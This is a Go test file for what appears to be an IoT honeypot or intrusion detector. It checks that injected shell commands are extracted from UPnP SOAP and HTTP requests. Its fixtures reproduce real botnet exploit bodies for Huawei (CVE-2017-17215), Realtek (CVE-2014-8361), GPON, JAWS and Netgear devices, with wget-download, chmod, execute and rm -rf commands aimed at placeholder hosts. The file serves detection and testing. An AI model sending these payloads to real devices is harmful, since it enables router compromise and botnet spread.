package iothttp

import (
	"net/http"
	"net/url"
	"reflect"
	"strings"
	"testing"
	"unicode/utf8"
)

// The request bodies of the public exploits, as Satori and its successors
// sent them (Check Point's CVE-2017-17215 write-up; the CVE-2014-8361
// Metasploit module and bot samples).
const huaweiBody = `<?xml version="1.0" ?>
<s:Envelope xmlns:s="http://schemas.xmlsoap.org/soap/envelope/" s:encodingStyle="http://schemas.xmlsoap.org/soap/encoding/">
<s:Body><u:Upgrade xmlns:u="urn:schemas-upnp-org:service:WANPPPConnection:1">
<NewStatusURL>$(/bin/busybox wget -g 203.0.113.7 -l /tmp/.f -r /okiru.mips; /bin/busybox chmod 777 /tmp/.f; /tmp/.f huawei.exploit)</NewStatusURL>
<NewDownloadURL>$(echo HUAWEIUPNP)</NewDownloadURL>
</u:Upgrade>
</s:Body>
</s:Envelope>`

const realtekBody = `<?xml version="1.0" ?><s:Envelope xmlns:s="http://schemas.xmlsoap.org/soap/envelope/" s:encodingStyle="http://schemas.xmlsoap.org/soap/encoding/"><s:Body><u:AddPortMapping xmlns:u="urn:schemas-upnp-org:service:WANIPConnection:1"><NewRemoteHost></NewRemoteHost><NewExternalPort>47450</NewExternalPort><NewProtocol>TCP</NewProtocol><NewInternalPort>44382</NewInternalPort><NewInternalClient>` +
	"`cd /var; rm -rf nig; wget http://203.0.113.9/bins/mips -O nig; chmod 777 nig; ./nig realtek.selfrep`" +
	`</NewInternalClient><NewEnabled>1</NewEnabled><NewPortMappingDescription>syncthing</NewPortMappingDescription><NewLeaseDuration>0</NewLeaseDuration></u:AddPortMapping></s:Body></s:Envelope>`

func TestExtract(t *testing.T) {
	for _, tc := range []struct {
		name   string
		body   string
		params []string
		want   []injection
	}{
		{"huawei", huaweiBody, []string{"NewStatusURL", "NewDownloadURL"}, []injection{
			{Param: "NewStatusURL", Value: "$(/bin/busybox wget -g 203.0.113.7 -l /tmp/.f -r /okiru.mips; /bin/busybox chmod 777 /tmp/.f; /tmp/.f huawei.exploit)",
				Commands: []string{"/bin/busybox wget -g 203.0.113.7 -l /tmp/.f -r /okiru.mips", "/bin/busybox chmod 777 /tmp/.f", "/tmp/.f huawei.exploit"}},
			{Param: "NewDownloadURL", Value: "$(echo HUAWEIUPNP)", Commands: []string{"echo HUAWEIUPNP"}},
		}},
		{"realtek", realtekBody, []string{"NewInternalClient"}, []injection{
			{Param: "NewInternalClient", Value: "`cd /var; rm -rf nig; wget http://203.0.113.9/bins/mips -O nig; chmod 777 nig; ./nig realtek.selfrep`",
				Commands: []string{"cd /var", "rm -rf nig", "wget http://203.0.113.9/bins/mips -O nig", "chmod 777 nig", "./nig realtek.selfrep"}},
		}},
		{"semicolon and entities", `<NewStatusURL>;wget http://203.0.113.1/x.sh -O- &amp;&amp; sh x.sh</NewStatusURL>`, []string{"NewStatusURL"}, []injection{
			{Param: "NewStatusURL", Value: ";wget http://203.0.113.1/x.sh -O- && sh x.sh", Commands: []string{"wget http://203.0.113.1/x.sh -O-", "sh x.sh"}},
		}},
		{"benign upgrade", `<NewStatusURL>http://192.168.1.1/status</NewStatusURL>`, []string{"NewStatusURL"}, nil},
		{"nested substitution stays one command", `<NewInternalClient>$(echo $(id); uname -a)</NewInternalClient>`, []string{"NewInternalClient"}, []injection{
			{Param: "NewInternalClient", Value: "$(echo $(id); uname -a)", Commands: []string{"echo $(id)", "uname -a"}},
		}},
	} {
		t.Run(tc.name, func(t *testing.T) {
			got := extract(tc.body, tc.params...)
			if !reflect.DeepEqual(got, tc.want) {
				t.Errorf("got  %#v\nwant %#v", got, tc.want)
			}
		})
	}
}

// FuzzExtract: extraction never panics, stays within its bounds, and
// every command it returns is text of the body's parameters (decoded).
func FuzzExtract(f *testing.F) {
	f.Add(huaweiBody)
	f.Add(realtekBody)
	f.Add("<NewStatusURL>$(a;$(b;`c`);d)</NewStatusURL><NewDownloadURL>&#x41;&#65;&bogus;</NewDownloadURL>")
	f.Add("<x:NewInternalClient attr='1'>`unterminated</x:NewInternalClient>")
	f.Fuzz(func(t *testing.T, body string) {
		injs := extract(body, "NewStatusURL", "NewDownloadURL", "NewInternalClient")
		n := 0
		for _, inj := range injs {
			if len(inj.Value) > 4*maxParamLen {
				t.Fatalf("value of %d bytes", len(inj.Value))
			}
			for _, c := range inj.Commands {
				n++
				if c == "" || len(c) > maxCommandLen {
					t.Fatalf("command %q", c)
				}
				if utf8.ValidString(inj.Value) && len(c) < maxCommandLen && !strings.Contains(inj.Value, c) {
					t.Fatalf("command %q is not in the value %q", c, inj.Value)
				}
			}
		}
		if n > maxCommands {
			t.Fatalf("%d commands", n)
		}
	})
}

func TestGenericInjections(t *testing.T) {
	for _, tc := range []struct {
		target, ctype, body string
		want                []string
	}{
		{"/shell?cd+/tmp;rm+-rf+*;wget+http://203.0.113.5/jaws;sh+/tmp/jaws", "", "",
			[]string{"cd /tmp", "rm -rf *", "wget http://203.0.113.5/jaws", "sh /tmp/jaws"}},
		{"/GponForm/diag_Form?images/", "", "XWebPageName=diag&diag_action=ping&wan_conlist=0&dest_host=`busybox+wget+http://203.0.113.6/gpon+-O+/tmp/g`;sh+/tmp/g&ipv=0",
			[]string{"busybox wget http://203.0.113.6/gpon -O /tmp/g"}},
		{"/setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=rm+-rf+/tmp/*;wget+http://203.0.113.8/n+-O+/tmp/n&curpath=/&currentsetting.htm=1", "", "",
			[]string{"rm -rf /tmp/*", "wget http://203.0.113.8/n -O /tmp/n"}},
		{"/index.html?lang=en&page=2", "", "", nil},
	} {
		r, _ := http.NewRequest("POST", "http://198.51.100.1"+tc.target, strings.NewReader(tc.body))
		if tc.ctype != "" {
			r.Header.Set("Content-Type", tc.ctype)
		}
		var got []string
		for _, inj := range genericInjections(r, []byte(tc.body)) {
			got = append(got, inj.Commands...)
		}
		if !reflect.DeepEqual(got, tc.want) {
			t.Errorf("%s: got %q, want %q", tc.target, got, tc.want)
		}
	}
}

// FuzzGeneric: the query and form scan never panics and stays within its
// bounds.
func FuzzGeneric(f *testing.F) {
	f.Add("cd+/tmp;wget+http://x/y", "a=1&b=`sh+x`")
	f.Add("%zz;rm+-rf+/", "dest_host=$(busybox+wget+x)&%")
	f.Fuzz(func(t *testing.T, query, body string) {
		r := &http.Request{Method: "POST", URL: &url.URL{Path: "/x", RawQuery: query}, Header: http.Header{}}
		n := 0
		for _, inj := range genericInjections(r, []byte(body)) {
			for _, c := range inj.Commands {
				if n++; c == "" || len(c) > maxCommandLen {
					t.Fatalf("command %q", c)
				}
			}
		}
		if n > maxCommands {
			t.Fatalf("%d commands", n)
		}
	})
}
